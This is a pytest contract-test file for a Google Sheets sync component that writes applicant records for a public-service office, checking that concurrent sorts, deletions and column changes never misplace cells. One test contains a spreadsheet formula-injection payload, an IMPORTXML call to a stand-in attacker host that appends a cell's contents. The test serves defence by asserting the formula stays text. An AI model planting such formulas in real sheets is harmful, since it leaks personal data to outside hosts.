"""The desk writes to a real sheet (the sandbox's): whatever Bu Ratna does at that moment, no cell goes astray."""

import pytest

from sync.core.desk import RowUpdate
from sync.core.mendable import Mendable
from sync.core.outcomes import Never
from tests.contract.google.conftest import (
    OWN,
    QUESTIONS,
    WRITE,
    Counter,
    opened,
    received,
    row_of,
)

READ_ROWS = "sheets.spreadsheets.values.batchGet"


def test_written_cells_stand_in_their_row(counter: Counter) -> None:
    """The everyday case: nothing moved, and officers' cells are as they were."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    at = counter.headers().index("Catatan Petugas")
    counter.types(f"{chr(ord('A') + at)}2", "catatan Bu Ratna")
    before = counter.values()

    report = counter.desk().write([received(row, n) for n, row in enumerate(reading.rows, 1)])

    assert (report.written, report.moved) == (2, False)
    assert counter.column("No. Permohonan") == ["SKD-26-0001X", "SKD-26-0002X"]
    assert counter.column("Catatan Petugas") == ["catatan Bu Ratna", ""]
    after = counter.values()
    width = len(before[0]) - len(OWN)
    assert [row[:width] for row in after] == [row[:width] for row in before]


def test_a_formula_stays_text(counter: Counter) -> None:
    """A citizen's name ends up in a note; it must not run as a formula in the officer's browser."""
    reading = opened(counter, "Citra Lestari")
    formula = '=IMPORTXML("https://jahat.test/?"&A2, "//a")'

    counter.desk().write(
        [RowUpdate(reading.rows[0], {"note": formula, "status": "+62812", "updated": "0812"})]
    )

    assert counter.column("Keterangan") == [formula]
    at = counter.headers().index("Keterangan")
    assert counter.values("FORMULA")[1][at] == formula
    assert counter.column("Status") == ["+62812"]
    assert counter.column("Diperbarui") == ["0812"]


def test_rows_sorted_since_the_reading_are_not_written(counter: Counter) -> None:
    """Citra's status must not stand beside Doni's name, not even for a moment."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    counter.changes(counter.sort_by(counter.headers().index("Nama Lengkap"), descending=True))

    report = counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    assert report.written == 0
    assert set(counter.column("No. Permohonan")) == {""}


def test_rows_sorted_in_the_very_moment_are_reported(counter: Counter) -> None:
    """Between our last look and the write: Google offers no way to exclude it, so it is found afterwards.

    Doni's row, which nobody has read yet, must not keep Citra's reference: it would be taken for a copy of hers.
    """
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    name = counter.headers().index("Nama Lengkap")
    counter.at_the_next(WRITE, counter.sort_by(name, descending=True))

    report = counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    assert "SKD-26-0001X" not in counter.column("No. Permohonan")


def test_a_reading_after_a_move_puts_everything_right(counter: Counter) -> None:
    """What the worker does next: read again, write what is wrong now. Row and victim are both restored."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    name = counter.headers().index("Nama Lengkap")
    counter.at_the_next(WRITE, counter.sort_by(name, descending=True))
    counter.desk().write([received(row_of(reading.rows, "Citra Lestari"))])

    rows = counter.desk().read().rows
    empty = dict.fromkeys(("reference", "status", "note", "document", "updated"), "")
    report = counter.desk().write(
        [received(row_of(rows, "Citra Lestari")), RowUpdate(row_of(rows, "Doni Saputra"), empty)]
    )

    assert not report.moved
    again = counter.desk().read().rows
    assert row_of(again, "Citra Lestari").reference == "SKD-26-0001X"
    assert row_of(again, "Doni Saputra").reference == ""


@pytest.mark.parametrize("moment", [READ_ROWS, WRITE])
def test_a_deleted_row_is_reported(counter: Counter, moment: str) -> None:
    """Deleted before our look, or between it and the write."""
    reading = opened(counter, "Citra Lestari", "Doni Saputra")
    citra = row_of(reading.rows, "Citra Lestari")
    counter.at_the_next(
        moment,
        {"deleteDimension": {"range": counter.span("ROWS", citra.number - 1, citra.number)}},
    )

    assert counter.desk().write([received(citra)]).moved


def test_the_sheets_last_row_deleted_is_reported_too(counter: Counter) -> None:
    """Then the row's number lies beyond the sheet, and Google refuses instead of answering."""
    reading = opened(counter, "Citra Lestari")
    grid = counter.ratna.fetch_sheet_metadata(counter.spreadsheet_id)["sheets"][0]["properties"]
    end = grid["gridProperties"]["rowCount"]
    counter.types("A2", "1")
    counter.changes({"deleteDimension": {"range": counter.span("ROWS", 1, end)}})

    assert counter.desk().write([received(reading.rows[0])]).moved


def test_an_edited_answer_is_reported(counter: Counter) -> None:
    """The row is no longer what was checked; the worker must look again."""
    reading = opened(counter, "Citra Lestari")
    at = counter.headers().index("NIK")
    counter.types(f"{chr(ord('A') + at)}2", "6472010101900009")

    assert counter.desk().write([received(reading.rows[0])]).moved


def test_a_column_inserted_in_the_very_moment_costs_no_answer(counter: Counter) -> None:
    """The reference lands on an answer: the answer is given back, and the worker writes anew."""
    reading = opened(counter, "Citra Lestari")
    before = dict(zip(counter.headers(), counter.values()[1], strict=False))
    counter.at_the_next(
        WRITE,
        {
            "insertDimension": {
                "range": counter.span("COLUMNS", 1, 2),
                "inheritFromBefore": False,
            }
        },
    )

    report = counter.desk().write([received(reading.rows[0])])

    assert report.moved
    after = dict(zip(counter.headers(), counter.values()[1], strict=False))
    assert {h: after[h] for h in before if h not in OWN} == {
        h: before[h] for h in before if h not in OWN
    }
    (row,) = counter.desk().read().rows
    assert row.answers == reading.rows[0].answers


def test_a_protected_column_says_what_to_mend(counter: Counter) -> None:
    """Bu Ratna locked the sheet for everybody, Loket included."""
    reading = opened(counter, "Citra Lestari")
    at = counter.headers().index("Status")
    counter.changes(
        {
            "addProtectedRange": {
                "protectedRange": {
                    "range": {
                        "sheetId": counter.sheet_id,
                        "startColumnIndex": at,
                        "endColumnIndex": at + 1,
                    },
                    "editors": {"users": []},
                }
            }
        }
    )
    with pytest.raises(Never) as caught:
        counter.desk().write([received(reading.rows[0])])
    assert "dilindungi" in caught.value.reason


def test_a_lost_answer_of_a_write_does_no_harm(counter: Counter) -> None:
    """It is written again, and the read-back says that all is well."""
    reading = opened(counter, "Citra Lestari")
    counter.google.faults({"api": WRITE, "do": "drop-after", "times": 1})
    report = counter.desk().write([received(reading.rows[0])])
    assert (report.written, report.moved) == (1, False)
    assert counter.column("No. Permohonan") == ["SKD-26-0001X"]


def test_a_hundred_rows_take_three_calls(counter: Counter) -> None:
    """One look, one write, one read-back: the minute's quota is for many offices' rows."""
    reading = opened(counter, *(f"Warga {number}" for number in range(30)))
    calls = counter.transport.calls

    report = counter.desk().write([received(row, n) for n, row in enumerate(reading.rows)])

    assert (report.written, report.moved) == (30, False)
    assert counter.transport.calls == calls + 3


def test_nothing_to_write_costs_nothing(counter: Counter) -> None:
    """An idle cycle has no updates."""
    desk = counter.desk(QUESTIONS)
    calls = counter.transport.calls
    assert not desk.write([]).moved
    assert counter.transport.calls == calls


# --- more than one thing in the same moment


def without_own(counter: Counter) -> dict[str, dict[str, object]]:
    """Every applicant's row by header, without Loket's columns."""
    header, *rows = counter.values()
    at = header.index("Nama Lengkap")
    whole = [[*row, *[""] * (len(header) - len(row))] for row in rows]
    return {
        row[at]: {
            title: cell for title, cell in zip(header, row, strict=True) if title not in OWN[:5]
        }
        for row in whole
    }


@pytest.mark.parametrize("other", ["sorted", "inserted", "deleted"])
def test_columns_and_rows_that_move_together_cost_nobody_a_cell(
    counter: Counter, other: str
) -> None:
    """Loket's words land on the answers of a row it never looked at: they are found in its last reading."""
    desk = counter.desk()
    opened(counter, "Citra Lestari", "Doni Saputra", "Eka Wijaya")
    for number in (2, 3, 4):
        counter.types(f"{chr(ord('A') + counter.headers().index('Keputusan'))}{number}", "Tolak")
    reading = desk.read()
    before = without_own(counter)
    name = counter.headers().index("Nama Lengkap")
    rows = {
        "sorted": counter.sort_by(name, descending=True),
        "inserted": {"insertDimension": {"range": counter.span("ROWS", 1, 2)}},
        "deleted": {"deleteDimension": {"range": counter.span("ROWS", 1, 2)}},
    }[other]
    column = {"insertDimension": {"range": counter.span("COLUMNS", 1, 3)}}
    counter.at_the_next(WRITE, rows, column)

    report = desk.write([received(row_of(reading.rows, "Citra Lestari"))])

    assert report.moved
    after = {person: row for person, row in without_own(counter).items() if person}
    assert after.keys() >= before.keys() - ({"Citra Lestari"} if other == "deleted" else set())
    for person, row in after.items():
        assert {title: row[title] for title in before[person]} == before[person]


@pytest.mark.parametrize("lost", ["NIK", "Status"])
def test_a_column_deleted_in_the_very_moment_costs_no_officers_cell(
    counter: Counter, lost: str
) -> None:
    """All columns to the right move up: what landed on Keputusan is taken away before the lost column is told."""
    desk = counter.desk()
    opened(counter, "Citra Lestari")
    at = counter.headers().index("Keputusan")
    counter.types(f"{chr(ord('A') + at)}2", "Setujui")
    reading = desk.read()
    column = counter.headers().index(lost)
    counter.at_the_next(
        WRITE, {"deleteDimension": {"range": counter.span("COLUMNS", column, column + 1)}}
    )

    with pytest.raises(Mendable):
        desk.write([received(reading.rows[0])])

    assert counter.column("Keputusan") == ["Setujui"]
    assert counter.column("Nama Lengkap") == ["Citra Lestari"]
